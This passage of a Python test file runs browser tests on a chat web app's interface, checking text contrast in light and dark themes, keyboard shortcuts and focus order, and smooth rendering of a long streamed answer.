    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


CONTRASTS = """() => ["body", "#title", ".prose p", ".prose a", ".prose .target", ".prose blockquote p",
  ".c-keyword", ".c-string", ".c-number", ".c-comment", ".c-call", ".stats", ".bubble", ".period",
  ".filled", ".problem strong", ".hints"].map((selector) => {
    const node = document.querySelector(selector);
    let ground = node;
    while (getComputedStyle(ground).backgroundColor === "rgba(0, 0, 0, 0)") ground = ground.parentElement;
    return [selector, getComputedStyle(node).color, getComputedStyle(ground).backgroundColor];
  })"""  # noqa: E501


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_colours_can_be_read(visit: Callable[..., Visit], fake: Fake, scheme: str) -> None:
    one = visit(color_scheme=scheme, reduced_motion="reduce")
    fake.will(RICH, error={"message": "broken"})
    one.ask("go")
    for selector, text, ground in one.page.evaluate(CONTRASTS):
        light, dark = sorted((luminance(text), luminance(ground)), reverse=True)
        assert (light + 0.05) / (dark + 0.05) >= 4.5, selector
    paper = "getComputedStyle(document.body).backgroundColor"
    assert (luminance(one.page.evaluate(paper)) > 0.5) == (scheme == "light")
    for _ in range(2 if scheme == "light" else 1):
        one.page.click("#theme")
    one.page.reload()
    one.page.wait_for_selector("body.ready")
    assert (luminance(one.page.evaluate(paper)) > 0.5) == (scheme == "dark")


def test_keys_are_enough(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    keys = one.page.keyboard
    focused = "document.activeElement.getAttribute('aria-label') ?? document.activeElement.id"
    keys.type("first line")  # the box has the focus at the beginning
    keys.press("Shift+Enter")
    keys.type("second ? line")
    fake.will("```py\nx = 1\n```")
    keys.press("Enter")
    one.page.wait_for_selector(".assistant[aria-busy=false]")
    assert fake.asked[0]["messages"][0]["content"] == "first line\nsecond ? line"
    assert one.page.inner_text("#live") == "The answer is complete"
    keys.press("ArrowUp")
    one.page.wait_for_selector(".edit textarea:focus")
    keys.press("Escape")
    assert one.page.evaluate(focused) == "Edit message"
    keys.press("?")
    one.page.wait_for_selector("#shortcuts[open]")
    keys.press("Escape")
    keys.press("Alt+r")
    one.page.wait_for_selector(".versions")
    assert one.page.evaluate(focused) == "message"  # the button that had the focus is gone
    one.page.focus("#search")
    keys.press("Alt+m")
    assert one.page.evaluate(focused) == "message"
    order = []
    for _ in range(12):
        keys.press("Shift+Tab")
        order.append(one.page.evaluate(focused))
    wanted = ["Answer again", "Copy answer", "Previous answer", "Edit message", "Copy message"]
    assert [name for name in order if name in wanted] == wanted
    keys.press("Alt+n")
    assert one.page.locator(".message").count() == 0
    assert one.page.evaluate(focused) == "message"
    keys.press("Alt+ArrowDown")
    keys.press("Alt+k")
    assert one.page.evaluate(focused) == "search"
    named = one.page.locator("button, input:not([type=file]), select, textarea").evaluate_all(
        "all => all.filter(e => !(e.ariaLabel || e.textContent.trim() || e.labels?.length)).length"
    )
    assert named == 0


LONG = [
    *("word **b** `c` " if i % 60 else "\n\n- " for i in range(2000)),
    "\n\n```python\n",
    *(f"v{i} = f({i})  # ok\n" for i in range(2000)),
    "```\n\n",
    *(f"tail{i} " for i in range(1000)),
]


def test_a_long_answer_stays_smooth(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    one.page.evaluate(
        """() => {
          window.frames_ms = [];
          let last = performance.now();
          const tick = (now) => {
            frames_ms.push(now - last);
            last = now;
            requestAnimationFrame(tick);
          };
          requestAnimationFrame(tick);
        }"""
    )
    fake.will(*LONG, pause_s=0.0003)
    one.ask("a long one", wait=False)
    one.page.wait_for_selector(".assistant[aria-busy=false]", timeout=30_000)
    assert one.text().rstrip().endswith("tail999")
    assert one.answer.locator("pre .c-call").count() == 2000
    frames = sorted(one.page.evaluate("frames_ms"))
    assert frames[len(frames) // 2] < 50 and frames[-1] < 1000, frames[-5:]
